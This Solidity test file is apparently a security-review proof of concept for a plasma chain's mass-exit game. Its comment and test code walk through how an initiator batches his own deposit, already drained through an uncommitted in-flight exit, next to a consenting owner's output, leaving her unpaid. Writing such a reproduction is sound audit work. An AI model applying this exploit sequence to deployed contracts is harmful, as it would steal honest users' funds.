// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {MassExitTestBase} from "../utils/MassExitTestBase.sol";
import {InFlightTestBase} from "../utils/InFlightTestBase.sol";
import {PlasmaTestBase} from "../utils/PlasmaTestBase.sol";
import {TxEncoder} from "../utils/TxEncoder.sol";
import {MassExitGame} from "../../src/games/MassExitGame.sol";

/// @notice Review PoC (fails on purpose while the fault stands). Claim under attack: an owner who consents with
///         maxBlock = the last block she holds valid is paid in full whatever else the initiator puts in the
///         batch (docs/protocol.md 7.2: "the batch asks only for outputs the vault backs (a spent one among them
///         is challengeable, 7.3)").
///         The initiator puts beside her output one of his own, a valid deposit of a block she vouched for, and
///         spends it with an in-flight transaction that is never included. Its in-flight exit is queued just
///         before the batch (same exitable time, started one second earlier), is canonical, and takes the
///         deposit's amount from the vault and marks the deposit exited. The batch then asks the vault for the
///         deposit's amount as well as hers: the vault holds only hers, the payout is short, nothing arrives,
///         and she is paid nothing. The watcher challenges a mass-exit leaf only with spends found in blocks
///         (ExitAudit.massExit -> ChildLedger.spendsOf), never with an in-flight transaction, so nobody
///         challenges the initiator's leaf, and no invalid block is needed at all.
contract ConsentSpentCompanyTest is InFlightTestBase, MassExitTestBase {
    address internal ian; // the initiator alice consented to
    uint256 internal ianKey;
    address internal mallory; // ian's accomplice

    function setUp() public override(InFlightTestBase, PlasmaTestBase) {
        InFlightTestBase.setUp();
        (ian, ianKey) = makeAddrAndKey("ian");
        mallory = makeAddr("mallory");
        vm.deal(ian, 100 ether);
        vm.deal(mallory, 10 ether);
    }

    function test_attack_initiatorsOwnLeafSpentInFlight_consentedOwnerPaidNothing() public {
        // ian's 5 ETH deposit, then alice's 1 ETH deposit; alice consents for ian vouching for both blocks
        Input memory x = _depositInput(ian, ianKey, 5 ether);
        (uint256 d, bytes memory t, Included memory inc) = _depositEth(alice, 1 ether);
        MassExitGame.MassExitItem memory consented = _depositItem(d, t, inc);
        _consentTo(consented, aliceKey, ian, d / 1e9);

        // ian spends his deposit to mallory in a transaction nobody includes, and exits it in flight
        Ife memory f = _build(_one(x), _outs1(mallory, 5 ether), bytes32(0));
        _startIfe(mallory, f);
        _pbOut(mallory, f, 0);

        // one second later ian batches his (now in-flight spent) deposit with alice's consented output
        vm.warp(block.timestamp + 1);
        MassExitGame.MassExitItem[] memory items = new MassExitGame.MassExitItem[](2);
        items[0] = _depositItem(x.position, x.txBytes, x.inc);
        items[1] = consented;
        assertTrue(items[0].position / 1e9 <= consented.consentMaxBlock, "every output of a vouched-for block");
        uint256 batchId = _startMass(ian, address(0), items);

        // both are processed in priority order: the in-flight exit first
        (,,,, uint256 batchExitableAt,,) = massGame.massExits(batchId);
        vm.warp(batchExitableAt);
        uint256 mallory0 = mallory.balance;
        vm.prank(processor);
        fw.processExits(address(0), 10);
        assertEq(mallory.balance, mallory0 + 5 ether + PB_REFUND + IFE_BOND, "the in-flight output is paid, the bonds returned");

        MassExitGame.MassExitLeaf[] memory leaves = new MassExitGame.MassExitLeaf[](2);
        leaves[0] = _depositLeaf(x.position, ian, 5 ether);
        leaves[1] = _depositLeaf(d, alice, 1 ether);
        uint256 alice0 = alice.balance;
        massGame.withdrawMassExit(batchId, leaves);
        assertEq(alice.balance, alice0 + 1 ether, "alice's honest, consented deposit is paid in full");
    }
}
